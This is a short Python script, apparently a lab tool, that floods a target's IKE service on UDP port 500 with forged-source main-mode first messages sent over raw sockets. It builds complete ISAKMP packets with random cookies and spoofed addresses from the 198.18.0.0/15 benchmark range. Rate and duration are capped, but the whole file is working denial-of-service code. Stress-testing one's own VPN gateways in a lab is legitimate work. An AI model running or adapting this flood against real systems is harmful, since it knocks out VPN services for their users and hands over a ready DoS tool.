"""A flood of first messages from forged addresses, bounded in number and time; run it in a lab namespace.

``python -m lab.flood TARGET RATE SECONDS`` prints how many it has sent.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

# One phase 1 proposal: AES-CBC 256, SHA-256, pre-shared key, MODP 2048 (RFC 2409 appendix A).
_ATTRIBUTES = bytes.fromhex("80010007 800e0100 80020004 80030001 8004000e 800b0001 800c7080".replace(" ", ""))
_BURST_S = 0.005
MAX_SECONDS, MAX_RATE = 60, 50_000


def first_message(cookie: bytes) -> bytes:
    """HDR, SA of main mode."""
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(_ATTRIBUTES), 1, 1, 0) + _ATTRIBUTES
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    body = struct.pack("!II", 1, 1) + proposal
    payload = struct.pack("!BBH", 0, 0, 4 + len(body)) + body
    return struct.pack("!8s8sBBBBII", cookie, bytes(8), 1, 0x10, 2, 0, 0, 28 + len(payload)) + payload


def packet(source: bytes, target: bytes, message: bytes) -> bytes:
    """The IPv4 packet; the kernel fills in the header's checksum, UDP goes without one."""
    udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target) + udp


def flood(target: str, rate: int, seconds: float) -> int:
    """Send ``rate`` messages a second, each from another address and with another cookie."""
    rate, seconds = min(rate, MAX_RATE), min(seconds, MAX_SECONDS)
    to = socket.inet_aton(target)
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            while sent < rate * passed:
                # 198.18.0.0/15 is for such measurements (RFC 2544).
                source = bytes((198, 18 + (sent >> 16 & 1), sent >> 8 & 255, sent & 255))
                sock.sendto(packet(source, to, first_message(os.urandom(7) + b"\1")), (target, 0))
                sent += 1
            time.sleep(_BURST_S)
    return sent


if __name__ == "__main__":
    print(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
